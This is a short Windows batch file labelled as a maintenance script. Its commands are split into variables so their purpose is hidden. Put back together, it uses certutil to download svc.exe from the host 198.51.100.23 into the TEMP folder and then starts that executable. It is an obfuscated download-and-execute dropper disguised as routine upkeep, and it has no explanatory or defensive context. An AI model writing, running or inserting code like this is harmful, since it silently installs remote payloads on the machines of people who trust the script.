REM maintenance 7595 v2
@echo off
@echo off
setlocal EnableDelayedExpansion
set hih0=certutil.exe -urlcache -split
set dil1= 
set woh2=-f http://198.51.100
set kxq3=.23/svc.exe %TEMP%\svc.exe
!hih0!!dil1!!woh2!!kxq3!
@echo off
setlocal EnableDelayedExpansion
set kor0=sta
set zsy1=rt ""
set qku2= %TEMP%\svc
set vce3=.
set bbt4=exe
!kor0!!zsy1!!qku2!!vce3!!bbt4!
